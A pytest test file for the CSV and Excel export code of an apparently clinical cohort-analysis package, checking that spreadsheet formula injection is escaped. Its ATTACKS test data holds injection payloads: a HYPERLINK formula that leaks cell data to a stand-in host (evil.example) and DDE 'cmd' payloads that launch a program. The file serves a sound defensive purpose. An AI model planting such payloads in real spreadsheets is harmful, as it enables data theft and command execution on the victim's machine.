"""Exports neutralise spreadsheet formula injection, keep numbers numeric and never touch disk."""

from __future__ import annotations

import builtins
import csv
import io
import os
import tempfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hcc_core import CohortError
from hcc_core.export import (
    FORMULA_PREFIXES,
    escape_formula,
    is_formula_text,
    neutralise_formulas,
    sheets_to_excel_bytes,
    to_csv_bytes,
    to_excel_bytes,
)

ATTACKS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "-1+2": "'-1+2",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-A1": "'-A1",
    "\t-2+3": "'\t-2+3",
}
# Placeholders, numbers written as text and ordinary text are never prefixed.
HARMLESS = ["ok", "a=b", "x-1", "HCC-001", " =1+1", "", "Müller", "-", "-1.5", "+3", "--"]


def _frame() -> pd.DataFrame:
    attacks = list(ATTACKS)[:7]
    n = len(attacks)
    return pd.DataFrame(
        {
            "patient_id": attacks,
            "os_months": np.linspace(-1.5, 4.5, n),
            "ae_grade": pd.array([None, 1, 2, 3, -3, 4, 5], dtype="Int64"),
            "note": ["ok", "a=b", "-", "HCC-001", " =1+1", "-1.5", "Müller"],
            "group": pd.Categorical(["=1+1", "mTACE", "=1+1", None, "HAIC", "mTACE", "HAIC"]),
        }
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must carry the UTF-8 BOM Excel needs"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _sheet_values(data: bytes, sheet: str | None = None) -> list[list[tuple[object, str]]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]


def _quote_prefixed(data: bytes, sheet: str | None = None) -> list[list[bool]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return [[bool(c.quotePrefix) for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize(("raw", "escaped"), list(ATTACKS.items()))
def test_escape_formula_prefixes_text(raw, escaped):
    assert escape_formula(raw) == escaped


@pytest.mark.parametrize("value", [*HARMLESS, -1.5, -3, np.float64(-2.0), None, np.nan, True])
def test_escape_formula_leaves_harmless_values_and_numbers(value):
    out = escape_formula(value)
    assert out is value or (isinstance(value, float) and np.isnan(value) and np.isnan(out))


def test_owasp_prefixes_are_covered():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_escapes_text_and_keeps_numbers():
    df = _frame()
    rows = _csv_rows(to_csv_bytes(df))
    header, body = rows[0], rows[1:]
    assert header == ["patient_id", "os_months", "ae_grade", "note", "group"]
    assert [r[0] for r in body] == list(ATTACKS.values())[:7]
    # Real numbers, including negative ones, are written as plain numbers.
    assert [r[1] for r in body] == ["-1.5", "-0.5", "0.5", "1.5", "2.5", "3.5", "4.5"]
    assert [r[2] for r in body] == ["", "1", "2", "3", "-3", "4", "5"]
    # The "-" placeholder and "-1.5" typed as text are not prefixed.
    assert [r[3] for r in body] == ["ok", "a=b", "-", "HCC-001", " =1+1", "-1.5", "Müller"]
    assert [r[4] for r in body] == ["'=1+1", "mTACE", "'=1+1", "", "HAIC", "mTACE", "HAIC"]


def test_csv_line_break_inside_a_cell_cannot_start_a_row():
    df = pd.DataFrame({"note": ["harmless\r=HYPERLINK(1)", "two\nlines", "a,=1+1"], "x": [1, 2, 3]})
    data = to_csv_bytes(df)
    rows = _csv_rows(data)
    assert rows == [
        ["note", "x"],
        ["harmless\r=HYPERLINK(1)", "1"],
        ["two\nlines", "2"],
        ["a,=1+1", "3"],
    ]
    # Each of those cells is quoted, so a spreadsheet sees one cell, not a new row or column.
    assert b'"harmless\r=HYPERLINK(1)"' in data and b'"a,=1+1"' in data


def test_csv_escapes_column_names_and_index():
    df = pd.DataFrame({"=cmd()": [1.0], "ok": ["@x"]}, index=pd.Index(["-evil"], name="+idx"))
    assert _csv_rows(to_csv_bytes(df)) == [["'=cmd()", "ok"], ["1.0", "'@x"]]
    assert _csv_rows(to_csv_bytes(df, index=True)) == [
        ["'+idx", "'=cmd()", "ok"],
        ["'-evil", "1.0", "'@x"],
    ]


def test_csv_round_trips_umlauts():
    df = pd.DataFrame({"name": ["Müller", "Groß"]})
    back = pd.read_csv(io.BytesIO(to_csv_bytes(df)), encoding="utf-8-sig")
    assert back["name"].tolist() == ["Müller", "Groß"]


def test_excel_escapes_text_and_keeps_numbers_numeric():
    df = _frame()
    data = to_excel_bytes(df, sheet_name="cohort")
    rows = _sheet_values(data)
    quoted = _quote_prefixed(data)
    header, body = rows[0], rows[1:]
    assert [v for v, _ in header] == ["patient_id", "os_months", "ae_grade", "note", "group"]
    # Text is stored exactly (no literal apostrophe); the quote-prefix style marks formula
    # text. A CR is stored as OOXML's escape _x000D_ (Excel shows a CR; openpyxl the escape).
    assert [r[0] for r in body] == [(v.replace("\r", "_x000D_"), "s") for v in list(ATTACKS)[:7]]
    assert [q[0] for q in quoted[1:]] == [True] * 7
    assert [r[1] for r in body] == [(v, "n") for v in [-1.5, -0.5, 0.5, 1.5, 2.5, 3.5, 4.5]]
    assert [r[2][0] for r in body] == [None, 1, 2, 3, -3, 4, 5]
    assert [r[2][1] for r in body[1:]] == ["n"] * 6
    assert [r[3] for r in body] == [
        (v, "s") for v in ["ok", "a=b", "-", "HCC-001", " =1+1", "-1.5", "Müller"]
    ]
    assert [q[3] for q in quoted[1:]] == [False] * 7
    assert [r[4][0] for r in body] == ["=1+1", "mTACE", "=1+1", None, "HAIC", "mTACE", "HAIC"]
    assert [q[4] for q in quoted[1:]] == [True, False, True, False, False, False, False]
    assert not any(t == "f" for row in rows for _, t in row), "no cell may be a formula"


def test_plain_pandas_export_would_have_written_formulas():
    # Proves the assertion above can fail: without escaping, openpyxl stores "=..." as a formula.
    buffer = io.BytesIO()
    _frame().to_excel(buffer, index=False)
    types = [t for row in _sheet_values(buffer.getvalue()) for _, t in row]
    assert types.count("f") == 3  # the =HYPERLINK cell and the two "=1+1" group cells


def test_mixed_object_column_escapes_strings_only():
    df = pd.DataFrame({"value": [-1.5, "-2", 3, None, "=A1", "-"]})
    data = to_excel_bytes(df)
    assert [r[0] for r in _sheet_values(data)[1:]] == [
        (-1.5, "n"),
        ("-2", "s"),
        (3, "n"),
        (None, "n"),
        ("=A1", "s"),
        ("-", "s"),
    ]
    assert [q[0] for q in _quote_prefixed(data)[1:]] == [False, False, False, False, True, False]
    assert [r[0] for r in _csv_rows(to_csv_bytes(df))[1:]] == ["-1.5", "-2", "3", "", "'=A1", "-"]


def test_excel_drops_control_characters_and_time_zones():
    df = pd.DataFrame(
        {
            "note": ["bell\x07here", "=x\x00"],
            "when": pd.to_datetime(["2024-03-01 10:00", "2024-03-02 11:30"]).tz_localize(
                "Europe/Berlin"
            ),
        }
    )
    data = to_excel_bytes(df)
    rows = _sheet_values(data)
    assert [r[0][0] for r in rows[1:]] == ["bellhere", "=x"]
    assert [q[0] for q in _quote_prefixed(data)[1:]] == [False, True]
    assert [r[1][0].isoformat() for r in rows[1:]] == ["2024-03-01T10:00:00", "2024-03-02T11:30:00"]


def test_input_frame_is_not_modified():
    df = _frame()
    before = df.copy()
    neutralise_formulas(df)
    to_csv_bytes(df)
    to_excel_bytes(df)
    pd.testing.assert_frame_equal(df, before)


def test_neutralise_keeps_dtypes_of_numeric_columns():
    out = neutralise_formulas(_frame())
    assert out["os_months"].dtype == np.float64
    assert out["ae_grade"].dtype == "Int64"
    assert out["patient_id"].tolist() == list(ATTACKS.values())[:7]


def test_several_sheets_in_order_with_clean_names():
    data = sheets_to_excel_bytes(
        {"Table 1": pd.DataFrame({"a": [1]}), "Cox: HR [95% CI]": pd.DataFrame({"b": ["=x"]})}
    )
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Table 1", "Cox_ HR _95% CI_"]
    assert wb["Cox_ HR _95% CI_"]["A2"].value == "=x"
    assert wb["Cox_ HR _95% CI_"]["A2"].quotePrefix
    assert len(to_excel_bytes(pd.DataFrame({"a": [1]}), sheet_name="x" * 40)) > 0
    assert openpyxl.load_workbook(
        io.BytesIO(to_excel_bytes(pd.DataFrame({"a": [1]}), sheet_name="x" * 40))
    ).sheetnames == ["x" * 31]


def test_sheet_name_errors_are_sentences():
    with pytest.raises(CohortError, match="There is nothing to export: give at least one table."):
        sheets_to_excel_bytes({})
    with pytest.raises(CohortError, match=r"coincide once shortened to 31 characters"):
        sheets_to_excel_bytes({"a" * 35: pd.DataFrame(), "A" * 32: pd.DataFrame()})
    with pytest.raises(
        CohortError, match=r"The sheet name \"' '\" has nothing left that Excel accepts"
    ):
        to_excel_bytes(pd.DataFrame({"a": [1]}), sheet_name="' '")
    assert openpyxl.load_workbook(
        io.BytesIO(to_excel_bytes(pd.DataFrame({"a": [1]}), sheet_name="[]"))
    ).sheetnames == ["__"]


def test_exports_never_touch_disk(monkeypatch):
    df = _frame()
    # Warm up first so lazy imports inside pandas/openpyxl have already read their modules.
    to_csv_bytes(df)
    to_excel_bytes(df)
    calls: list[str] = []

    def forbid(name):
        def _raise(*args, **kwargs):
            calls.append(name)
            raise AssertionError(f"export touched the filesystem via {name}{args[:1]}")

        return _raise

    for module, name in [
        (builtins, "open"),
        (io, "open"),
        (os, "open"),
        (tempfile, "mkstemp"),
        (tempfile, "mkdtemp"),
        (tempfile, "TemporaryFile"),
        (tempfile, "NamedTemporaryFile"),
        (tempfile, "SpooledTemporaryFile"),
    ]:
        monkeypatch.setattr(module, name, forbid(f"{module.__name__}.{name}"))
    csv_bytes = to_csv_bytes(df)
    xlsx_bytes = to_excel_bytes(df)
    monkeypatch.undo()
    assert calls == []
    assert _csv_rows(csv_bytes)[1][0] == ATTACKS['=HYPERLINK("http://evil.example/?"&A1,"click")']
    assert _sheet_values(xlsx_bytes)[2][0] == ("-1+2", "s")
    assert _quote_prefixed(xlsx_bytes)[2][0]


_cell_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)


@settings(deadline=None)  # a loaded CI machine must not turn a slow example into a failure
@given(st.lists(_cell_text, min_size=1, max_size=8))
def test_csv_round_trip_is_escape_formula_of_each_cell(cells):
    df = pd.DataFrame({"text": cells, "n": np.arange(len(cells), dtype=float) - 2.5})
    rows = _csv_rows(to_csv_bytes(df))[1:]
    assert [r[0] for r in rows] == [escape_formula(c) for c in cells]
    assert [float(r[1]) for r in rows] == (np.arange(len(cells)) - 2.5).tolist()
    assert not any(is_formula_text(r[0]) for r in rows)


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("-", False),
        ("- ", False),
        ("--", False),
        ("-1.5", False),
        ("+3", False),
        ("-2.5e-3", False),
        ("-12%", False),
        ("@", False),
        ("\t", False),
        ("\tplain", False),
        ("-1+2", True),
        ("-A1", True),
        ("--1", True),
        ("-inf", True),
        ("@SUM(A1)", True),
        ("=1", True),
        ("\r\n=1", True),
    ],
)
def test_is_formula_text(text, runs):
    assert is_formula_text(text) is runs


def test_notes_sheet_and_csv_notes_carry_the_stamp():
    notes = ["Population: Child-Pugh class A, BCLC stage C", "Patients: 16 of 95", "=not a formula"]
    df = pd.DataFrame({"hr": [0.57, -0.25], "label": ["HAIC", "-"]})
    data = to_excel_bytes(df, sheet_name="cox", notes=notes)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["cox", "Notes"]
    lines = [c.value for c in wb["Notes"]["A"]]
    assert lines == ["Where these numbers come from", *notes]
    assert wb["Notes"]["A4"].quotePrefix and wb["Notes"]["A4"].data_type == "s"
    assert [(c.value, c.data_type) for c in wb["cox"]["A"][1:]] == [(0.57, "n"), (-0.25, "n")]

    text = to_csv_bytes(df, notes=notes).decode("utf-8-sig")
    assert text.splitlines()[:3] == [
        "# Population: Child-Pugh class A, BCLC stage C",
        "# Patients: 16 of 95",
        "# =not a formula",
    ]
    back = pd.read_csv(io.StringIO(text), comment="#")
    assert back["hr"].tolist() == [0.57, -0.25]
    assert back["label"].tolist() == ["HAIC", "-"]


def test_notes_sheet_name_cannot_collide():
    with pytest.raises(CohortError, match="or with the notes sheet"):
        sheets_to_excel_bytes({"notes": pd.DataFrame({"a": [1]})}, notes=["n = 1"])
    assert openpyxl.load_workbook(
        io.BytesIO(sheets_to_excel_bytes({"notes": pd.DataFrame({"a": [1]})}))
    ).sheetnames == ["notes"]


def test_excel_cell_types_for_booleans_dates_and_infinity():
    df = pd.DataFrame(
        {
            "flag": [True, False],
            "day": [pd.Timestamp("2024-05-06").date(), None],
            "x": [np.inf, -np.inf],
            "n": np.array([3, -4], dtype=np.int64),
        }
    )
    data = to_excel_bytes(df)
    rows = _sheet_values(data)
    assert rows[1] == [(True, "b"), (rows[1][1][0], "d"), ("inf", "s"), (3, "n")]
    assert rows[1][1][0].date().isoformat() == "2024-05-06"
    assert rows[2] == [(False, "b"), (None, "n"), ("-inf", "s"), (-4, "n")]


def test_table_one_export_has_numeric_test_columns():
    from hcc_core import format_table_one, load_cohort, table_one
    from hcc_core.export import table_one_frame

    res = table_one(load_cohort("data/demo_cohort.csv").data)
    display = format_table_one(res)
    frame = table_one_frame(res, display)
    assert frame.shape == (display.shape[0], display.shape[1] + 1)
    assert frame["Characteristic"].tolist() == display["Characteristic"].tolist()
    first = res.table.drop_duplicates("variable").set_index("variable")
    age = frame.index[frame["Characteristic"] == "Age (years)"][0]
    assert frame.loc[age, "Statistic"] == first.loc["age", "statistic"]
    assert frame.loc[age, "p"] == first.loc["age", "p_value"]
    sex = frame.index[frame["Characteristic"] == "Sex"][0]
    assert frame.loc[sex, "Expected count < 5"] == "yes"  # display: "0.561 *"
    assert display.loc[sex, "p"].endswith("*")
    assert frame.loc[sex, "Fisher's exact p"] == first.loc["sex", "fisher_p"]
    assert np.isnan(frame.loc[sex + 1, "p"])  # a level row has no test
    for col in ("Statistic", "p", "Fisher's exact p", "SMD", "Missing"):
        assert frame[col].dtype == np.float64
    rows = _sheet_values(to_excel_bytes(frame))
    heads = [v for v, _ in rows[0]]
    stat = heads.index("Statistic")
    # Negative statistics stay numbers in the workbook (Albumin's t is negative in the demo).
    albumin = next(r for r in rows if r[0][0] == "Albumin (g/L)")
    assert albumin[stat][1] == "n" and albumin[stat][0] < 0
